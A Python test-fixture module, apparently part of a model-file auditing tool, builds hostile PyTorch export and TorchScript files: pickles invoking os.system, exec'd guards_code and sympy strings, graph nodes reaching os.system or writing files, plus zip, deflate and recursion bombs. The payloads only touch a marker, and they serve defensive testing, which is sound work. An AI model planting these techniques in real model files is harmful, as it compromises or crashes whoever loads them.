"""Hostile model files, crafted here from a plain ``torch.export`` of a small CNN.

Each ``make_*`` writes one file whose payload, if the file were loaded the
unsafe way (``torch.export.load`` then ``.module()`` and a forward pass, or
``torch.jit.load`` then a forward pass), creates ``marker`` — a file that the
tests assert never appears when ``logitshift audit`` reads the file.
``tests/test_safeload.py::test_the_payloads_are_live`` loads every one of them
the unsafe way in a throwaway folder and asserts that each marker IS created,
so the refusals are tested against payloads that work.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import torch
from torch import nn

SIZE = 32


class Payload:
    """Pickles to ``os.system("touch <marker>")``."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def evil_pickle(marker: Path) -> bytes:
    buf = io.BytesIO()
    torch.save({"x": Payload(marker)}, buf)
    return buf.getvalue()


def raw_pickle(marker: Path) -> bytes:
    return pickle.dumps(Payload(marker))


def base_export(path: Path) -> Path:
    """A plain export of a small random CNN (what an honest sender would send)."""
    g = torch.Generator().manual_seed(0)
    model = nn.Sequential(
        nn.Conv2d(3, 8, 3, padding=1),
        nn.ReLU(),
        nn.Conv2d(8, 8, 3, padding=1),
        nn.ReLU(),
        nn.AdaptiveAvgPool2d(1),
        nn.Flatten(),
        nn.Linear(8, 10),
    ).eval()
    with torch.no_grad():
        for p in model.parameters():
            p.copy_(torch.randn(p.shape, generator=g) * 0.5)
    torch.export.save(torch.export.export(model, (torch.randn(1, 3, SIZE, SIZE),)), str(path))
    return path


def bomb(prefix: bytes, inflated: int, fill: bytes = b"\0") -> tuple[bytes, int, int]:
    """``(deflated, crc32, size)`` of ``prefix`` followed by ``inflated`` bytes of ``fill``, built in well under a
    second: each 1 MiB of fill, deflated after a full flush, is the same 1 037 bytes, so it is repeated, not recompressed."""
    chunk = fill * (1 << 20)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = comp.compress(prefix) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    n = inflated >> 20
    crc = zlib.crc32(prefix)
    for _ in range(n):
        crc = zlib.crc32(chunk, crc)
    return head + block * n + comp.flush(zlib.Z_FINISH), crc, len(prefix) + (n << 20)


def write_zip(path: Path, members: list[tuple[str, bytes, int, int, int]]) -> Path:
    """A zip written by hand: ``(name, data, method, crc32, uncompressed size)`` per member (no zip64)."""
    local, central = bytearray(), bytearray()
    for name, data, method, crc, size in members:
        raw = name.encode()
        offset = len(local)
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(data), size, len(raw), 0) + raw + data
        central += (
            struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(data), size, len(raw), 0, 0, 0, 0, 0, offset)
            + raw
        )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(local), 0)
    path.write_bytes(bytes(local) + bytes(central) + end)
    return path


def _rewrite(
    src: Path,
    dst: Path,
    edit: Callable[[str, bytes], bytes | None],
    add: dict[str, bytes] | None = None,
    bombs: dict[str, tuple[bytes, int, int]] | None = None,
) -> Path:
    """Copy ``src`` to ``dst`` member by member: ``edit(rel, data)`` returns new bytes or ``None`` to drop it;
    ``add`` appends stored members, ``bombs`` deflated ones (from :func:`bomb`)."""
    members = []
    with zipfile.ZipFile(src) as zin:
        root = zin.namelist()[0].split("/")[0]
        for info in zin.infolist():
            rel = info.filename[len(root) + 1 :]
            data = edit(rel, zin.read(info))
            if data is not None:
                members.append((f"{root}/{rel}", data, 0, zlib.crc32(data), len(data)))
    for rel, data in (add or {}).items():
        members.append((f"{root}/{rel}", data, 0, zlib.crc32(data), len(data)))
    for rel, (data, crc, size) in (bombs or {}).items():
        members.append((f"{root}/{rel}", data, 8, crc, size))
    return write_zip(dst, members)


def _edit_json(rel_target: str, change: Callable[[dict], None]) -> Callable[[str, bytes], bytes]:
    def edit(rel: str, data: bytes) -> bytes:
        if rel != rel_target:
            return data
        obj = json.loads(data)
        change(obj)
        return json.dumps(obj).encode()

    return edit


# ----------------------------------------------------------------------------- pickle paths


def make_sample_inputs(base: Path, out: Path, marker: Path) -> Path:
    """``data/sample_inputs/model.pt``: torch retries it with ``weights_only=False``."""
    return _rewrite(base, out, lambda rel, d: evil_pickle(marker) if rel == "data/sample_inputs/model.pt" else d)


def make_use_pickle_weight(base: Path, out: Path, marker: Path) -> Path:
    """A weight entry flagged ``use_pickle``: ``torch.load(weights_only=False)``."""

    first_name = {}

    def edit(rel, data):
        if rel == "data/weights/model_weights_config.json":
            cfg = json.loads(data)
            entry = next(iter(cfg["config"].values()))
            entry["use_pickle"] = True
            first_name["path"] = "data/weights/" + entry["path_name"]
            return json.dumps(cfg).encode()
        return data

    _rewrite(base, out, edit)
    tmp = out.with_suffix(".tmp")
    _rewrite(out, tmp, lambda rel, d: evil_pickle(marker) if rel == first_name["path"] else d)
    os.replace(tmp, out)
    return out


def _constant(base: Path, out: Path, path_name: str, payload: bytes, use_pickle: bool) -> Path:
    def change(cfg):
        cfg["config"]["evil"] = {"path_name": path_name, "is_param": False, "use_pickle": use_pickle, "tensor_meta": None}

    return _rewrite(
        base, out, _edit_json("data/constants/model_constants_config.json", change), add={f"data/constants/{path_name}": payload}
    )


def make_use_pickle_constant(base: Path, out: Path, marker: Path) -> Path:
    """A tensor constant flagged ``use_pickle``: ``torch.load(weights_only=False)``."""
    return _constant(base, out, "tensor_0", evil_pickle(marker), True)


def make_opaque_constant(base: Path, out: Path, marker: Path) -> Path:
    """An ``opaque_obj_`` constant: ``pickle.loads``."""
    return _constant(base, out, "opaque_obj_0", raw_pickle(marker), True)


def make_legacy_weights(base: Path, out: Path, marker: Path) -> Path:
    """The legacy ``data/weights/model.pt`` member: its bytes go to ``torch.load``, retried with ``weights_only=False``."""
    return _rewrite(base, out, lambda rel, d: d, add={"data/weights/model.pt": evil_pickle(marker)})


# ----------------------------------------------------------------------------- code in the graph JSON


def _tensor_meta(n: int, dtype: int = 1) -> dict:
    return {
        "dtype": dtype,
        "sizes": [{"as_int": n}],
        "requires_grad": False,
        "device": {"type": "cpu", "index": None},
        "strides": [{"as_int": 1}],
        "storage_offset": {"as_int": 0},
        "layout": 7,
    }


def make_from_file(base: Path, out: Path, marker: Path) -> Path:
    """Pure JSON: ``aten::from_file(marker, shared=True)`` then an in-place ``fill_`` writes the file on the first forward."""

    def change(program):
        graph = program["graph_module"]["graph"]
        graph["nodes"][:0] = [
            {
                "target": "torch.ops.aten.from_file.default",
                "name": "pwn",
                "inputs": [
                    {"name": "filename", "arg": {"as_string": str(marker)}, "kind": 1},
                    {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
                    {"name": "size", "arg": {"as_int": 4}, "kind": 1},
                    {"name": "dtype", "arg": {"as_scalar_type": 1}, "kind": 2},
                ],
                "outputs": [{"as_tensor": {"name": "pwn"}}],
                "metadata": {},
                "is_hop_single_tensor_return": None,
            },
            {
                "target": "torch.ops.aten.fill_.Scalar",
                "name": "pwn_fill",
                "inputs": [
                    {"name": "self", "arg": {"as_tensor": {"name": "pwn"}}, "kind": 1},
                    {"name": "value", "arg": {"as_int": 65}, "kind": 1},
                ],
                "outputs": [{"as_tensor": {"name": "pwn_fill"}}],
                "metadata": {},
                "is_hop_single_tensor_return": None,
            },
        ]
        graph["tensor_values"]["pwn"] = _tensor_meta(4)
        graph["tensor_values"]["pwn_fill"] = _tensor_meta(4)

    return _rewrite(base, out, _edit_json("models/model.json", change))


def make_guards_code(base: Path, out: Path, marker: Path) -> Path:
    """``guards_code``: torch compiles it into the module with ``exec`` and runs it on every forward."""

    def change(program):
        program["guards_code"] = [f"__import__('os').system('touch {marker}') == 0 or True"]

    return _rewrite(base, out, _edit_json("models/model.json", change))


def make_sympy_expr(base: Path, out: Path, marker: Path) -> Path:
    """A symbolic size: torch passes its expression to ``sympy.sympify``, which evaluates it as Python."""

    def change(program):
        values = program["graph_module"]["graph"]["tensor_values"]
        first = values[next(iter(values))]
        first["sizes"][0] = {"as_expr": {"expr_str": f"__import__('os').system('touch {marker}') + 1", "hint": {"as_int": 1}}}

    return _rewrite(base, out, _edit_json("models/model.json", change))


def make_dotted_target(base: Path, out: Path, marker: Path) -> Path:
    """A node whose target is a dotted path under ``torch``: ``os.system`` reached as ``torch.serialization.os.system``."""

    def change(program):
        graph = program["graph_module"]["graph"]
        graph["nodes"][:0] = [
            {
                "target": "torch.serialization.os.system",
                "name": "pwn",
                "inputs": [{"name": "command", "arg": {"as_string": f"touch {marker}"}, "kind": 1}],
                "outputs": [{"as_none": True}],
                "metadata": {},
                "is_hop_single_tensor_return": None,
            },
        ]

    return _rewrite(base, out, _edit_json("models/model.json", change))


# ----------------------------------------------------------------------------- TorchScript


class _SetState(nn.Module):
    def __init__(self, marker: str) -> None:
        super().__init__()
        self.marker = marker
        self.weight = nn.Parameter(torch.randn(4, 3, 3, 3))

    def forward(self, x):
        return torch.nn.functional.conv2d(x, self.weight).mean((2, 3))

    @torch.jit.export
    def __getstate__(self):
        return (self.marker, self.weight, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, torch.Tensor, bool]):
        self.marker = state[0]
        self.weight = state[1]
        written = torch.from_file(self.marker, True, 4, dtype=torch.uint8)
        written.fill_(65)
        self.training = bool(int(written[0]) == 65) and state[2]  # used, so TorchScript keeps the write


class _WritingForward(nn.Module):
    def __init__(self, marker: str) -> None:
        super().__init__()
        self.marker = marker
        self.weight = nn.Parameter(torch.randn(4, 3, 3, 3))

    def forward(self, x):
        written = torch.from_file(self.marker, True, 4, dtype=torch.uint8)
        written.fill_(65)
        return torch.nn.functional.conv2d(x, self.weight).mean((2, 3)) + written[0].float() * 0


def make_torchscript_setstate(base: Path, out: Path, marker: Path) -> Path:
    """TorchScript whose ``__setstate__`` writes a file during ``torch.jit.load``."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.save(torch.jit.script(_SetState(str(marker))), str(out))
    return out


def make_torchscript_forward(base: Path, out: Path, marker: Path) -> Path:
    """TorchScript whose ``forward`` writes a file."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.save(torch.jit.script(_WritingForward(str(marker))), str(out))
    return out


#: payloads that run code or write a file when loaded unsafely
CODE = {
    "sample_inputs": make_sample_inputs,
    "use_pickle_weight": make_use_pickle_weight,
    "use_pickle_constant": make_use_pickle_constant,
    "opaque_constant": make_opaque_constant,
    "legacy_weights": make_legacy_weights,
    "from_file": make_from_file,
    "guards_code": make_guards_code,
    "sympy_expr": make_sympy_expr,
    "torchscript_setstate": make_torchscript_setstate,
    "torchscript_forward": make_torchscript_forward,
}


# ----------------------------------------------------------------------------- bombs and broken files


def make_json_bomb(base: Path, out: Path, marker: Path | None = None, inflated: int = 1 << 30) -> Path:
    """``models/model.json`` deflated: about 1 MB per GiB in the file; inflated, the real JSON and then
    ``inflated`` bytes of whitespace (a valid document that a naive reader inflates in full)."""
    with zipfile.ZipFile(base) as zin:
        root = zin.namelist()[0].split("/")[0]
        real = zin.read(f"{root}/models/model.json")
    return _rewrite(
        base, out, lambda rel, d: None if rel == "models/model.json" else d, bombs={"models/model.json": bomb(real, inflated, b" ")}
    )


def make_deep_json(base: Path, out: Path, marker: Path | None = None) -> Path:
    """A stored ``model.json`` nested 100 000 levels deep (a recursion bomb for a naive parser)."""
    return _rewrite(base, out, lambda rel, d: b"[" * 100_000 + b"]" * 100_000 if rel == "models/model.json" else d)


def make_oversized_record(base: Path, out: Path, marker: Path | None = None) -> Path:
    """A weight declared 2^20 × 2^20 float32 (4 TiB) over a record of a few bytes."""

    def change(cfg):
        entry = next(iter(cfg["config"].values()))
        entry["tensor_meta"]["sizes"] = [{"as_int": 1 << 20}, {"as_int": 1 << 20}]
        entry["tensor_meta"]["strides"] = [{"as_int": 1 << 20}, {"as_int": 1}]

    return _rewrite(base, out, _edit_json("data/weights/model_weights_config.json", change))


def make_empty_record(base: Path, out: Path, marker: Path | None = None) -> Path:
    """A 0-byte weight record declared 2^17 × 2^17 float32: torch would allocate the zeros (64 GiB)."""
    names = {}

    def edit(rel, data):
        if rel == "data/weights/model_weights_config.json":
            cfg = json.loads(data)
            entry = next(iter(cfg["config"].values()))
            entry["tensor_meta"]["sizes"] = [{"as_int": 1 << 17}, {"as_int": 1 << 17}]
            entry["tensor_meta"]["strides"] = [{"as_int": 1 << 17}, {"as_int": 1}]
            names["w"] = "data/weights/" + entry["path_name"]
            return json.dumps(cfg).encode()
        return data

    _rewrite(base, out, edit)
    tmp = out.with_suffix(".tmp")
    _rewrite(out, tmp, lambda rel, d: b"" if rel == names["w"] else d)
    os.replace(tmp, out)
    return out


def make_truncated(base: Path, out: Path, marker: Path | None = None) -> Path:
    data = base.read_bytes()
    out.write_bytes(data[: len(data) // 2])
    return out


def make_deflate_bomb(base: Path, out: Path, marker: Path | None = None, inflated: int = 1 << 30) -> Path:
    """A weight record deflated from ``inflated`` zero bytes, and the config declaring a tensor that size."""
    holder = {}

    def edit(rel, data):
        if rel == "data/weights/model_weights_config.json":
            cfg = json.loads(data)
            entry = next(iter(cfg["config"].values()))
            entry["tensor_meta"]["sizes"] = [{"as_int": inflated // 4}]
            entry["tensor_meta"]["strides"] = [{"as_int": 1}]
            holder["name"] = "data/weights/" + entry["path_name"]
            return json.dumps(cfg).encode()
        return None if rel == holder.get("name") else data

    with zipfile.ZipFile(base) as zin:  # the config comes after the records: find the name first
        root = zin.namelist()[0].split("/")[0]
        cfg = json.loads(zin.read(f"{root}/data/weights/model_weights_config.json"))
    holder["name"] = "data/weights/" + next(iter(cfg["config"].values()))["path_name"]
    return _rewrite(base, out, edit, bombs={holder["name"]: bomb(b"", inflated)})


#: files that must be refused (bombs, broken files; none of them proven to run code)
BROKEN = {
    "dotted_target": make_dotted_target,  # torch's verifier refuses it too, after deserializing it
    "json_bomb": make_json_bomb,
    "deep_json": make_deep_json,
    "oversized_record": make_oversized_record,
    "empty_record": make_empty_record,
    "truncated": make_truncated,
    "deflate_bomb": make_deflate_bomb,
}
